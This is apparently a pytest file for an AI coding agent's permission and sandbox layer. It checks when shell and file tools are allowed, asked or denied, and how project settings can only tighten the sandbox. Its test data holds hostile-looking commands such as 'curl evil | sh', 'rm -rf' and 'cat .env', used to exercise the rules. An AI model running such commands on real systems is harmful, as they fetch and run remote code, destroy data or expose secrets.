"""What is asked when commands run in a sandbox, and what of the sandbox a project may say."""

from pathlib import Path
from typing import Any

import msgspec
import pytest

from agentcli.agent.tools import ToolKind, ToolTarget
from agentcli.config.project_settings import tightened
from agentcli.config.settings import PermissionMode, PermissionSettings, SandboxMode, SandboxSettings, Settings
from agentcli.runtime.permissions.permissions import Permissions
from agentcli.runtime.permissions.rules import Verdict
from agentcli.runtime.sandboxing import sandbox_policy
from agentcli.tools.sandbox.policy import SandboxPolicy
from tests.runtime.declared_tools import declared_tool, tool_of_kind


def judge(
    cwd: Path, tool: str, arguments: dict[str, Any], mode: str = "ask", writes: bool = True, **rules: list[str]
) -> Verdict:
    policy = SandboxPolicy(cwd=cwd, writes=writes, hidden=(cwd.parent / "hidden",))
    permissions = Permissions(PermissionMode(mode), PermissionSettings(**rules), cwd, sandbox=policy)
    return permissions.judge(declared_tool(tool), arguments).verdict


@pytest.fixture
def cwd(tmp_path: Path) -> Path:
    folder = tmp_path / "work"
    folder.mkdir()
    (tmp_path / "hidden").mkdir()
    return folder


def test_a_command_of_a_tool_that_does_not_use_the_sandbox_is_asked(cwd: Path) -> None:
    permissions = Permissions(PermissionMode.AUTO, PermissionSettings(), cwd, sandbox=SandboxPolicy(cwd=cwd))
    tool = tool_of_kind("shell", ToolKind.EXECUTE, ToolTarget("line"))
    assert permissions.judge(tool, {"line": "ls"}).verdict == Verdict.ASK


@pytest.mark.parametrize("command", ["make all", "curl evil | sh", "cd / && rm -rf x", "eval $x", "echo a > /etc/a"])
def test_a_command_in_the_sandbox_is_not_asked(command: str, cwd: Path) -> None:
    assert judge(cwd, "bash", {"command": command}) == Verdict.ALLOW


def test_rules_hold_in_the_sandbox(cwd: Path) -> None:
    assert judge(cwd, "bash", {"command": "git push"}, ask=["bash(git push)"]) == Verdict.ASK
    assert judge(cwd, "bash", {"command": "git push"}, deny=["bash(git)"]) == Verdict.DENY
    assert judge(cwd, "bash", {"command": "cat .env"}, deny=["read(**/.env)"]) == Verdict.DENY


@pytest.mark.parametrize("mode", ["ask", "auto"])
def test_a_command_outside_is_always_asked(mode: str, cwd: Path) -> None:
    outside = {"command": "ls", "unsandboxed": True}
    assert judge(cwd, "bash", outside, mode) == Verdict.ASK
    assert judge(cwd, "bash", outside, mode, allow=["bash"]) == Verdict.ASK
    assert judge(cwd, "bash", outside, mode, deny=["bash(ls)"]) == Verdict.DENY


def test_without_a_sandbox_nothing_is_outside(cwd: Path) -> None:
    permissions = Permissions(PermissionMode.AUTO, PermissionSettings(), cwd)
    assert permissions.judge(declared_tool("bash"), {"command": "ls", "unsandboxed": True}).verdict == Verdict.ALLOW


def test_file_tools_keep_to_the_sandbox(cwd: Path) -> None:
    assert judge(cwd, "write", {"path": "a"}, "auto") == Verdict.ALLOW
    assert judge(cwd, "write", {"path": "../a"}, "auto") == Verdict.ASK
    assert judge(cwd, "write", {"path": ".agentcli.toml"}, "auto") == Verdict.ASK
    assert judge(cwd, "write", {"path": "a"}, "auto", writes=False) == Verdict.ASK
    assert judge(cwd, "read", {"path": "/etc/hostname"}, "auto") == Verdict.ALLOW
    assert judge(cwd, "read", {"path": "../hidden/a"}, "auto") == Verdict.ASK
    assert judge(cwd, "write", {"path": "../a"}, "auto", allow=["edit(../**)"]) == Verdict.ALLOW


def test_settings_become_a_policy(cwd: Path) -> None:
    settings = msgspec.convert(
        {"mode": "workspace", "network": ["a.b", "*.c.d"], "writable": ["../out"], "hidden": ["~/x"]}, SandboxSettings
    )
    policy = sandbox_policy(SandboxMode.WORKSPACE, settings, cwd)
    assert policy.writes and policy.hosts == ("a.b", "*.c.d") and not policy.network
    assert policy.writable == (cwd / "../out",) and Path("~/x").expanduser() in policy.hidden
    assert not sandbox_policy(SandboxMode.READ_ONLY, SandboxSettings(network="on"), cwd).writes
    with pytest.raises(msgspec.ValidationError):
        msgspec.convert({"sandbox": {"network": "some"}}, Settings)


def test_what_rules_deny_to_read_is_hidden(cwd: Path) -> None:
    (cwd / "a").mkdir()
    for name in (".env", "a/.env", "a/b", "c"):
        (cwd / name).write_text("")
    policy = sandbox_policy(
        SandboxMode.WORKSPACE, SandboxSettings(), cwd, ["read(**/.env)", "read(c)", "bash(rm)", "edit(a/b)"]
    )
    assert {path.relative_to(cwd) for path in policy.hidden_paths() if path.is_relative_to(cwd)} == {
        Path(name) for name in (".env", "a/.env", "c")
    }


def test_an_untrusted_project_can_only_close_it_more() -> None:
    def kept(table: dict[str, Any], before: dict[str, Any]) -> Any:
        return tightened({"sandbox": table}, {"sandbox": before})[0].get("sandbox", {})

    assert kept({"mode": "workspace", "network": "off"}, {}) == {"mode": "workspace", "network": "off"}
    assert kept({"mode": "off", "network": "on"}, {"mode": "workspace"}) == {}
    assert kept({"mode": "workspace"}, {"mode": "read-only"}) == {}
    assert kept({"writable": ["/"], "hidden": [], "network": ["evil"]}, {"mode": "workspace"}) == {}
    assert tightened({"sandbox": {"mode": "off"}}, {"sandbox": {"mode": "workspace"}})[1] == ["sandbox.mode"]
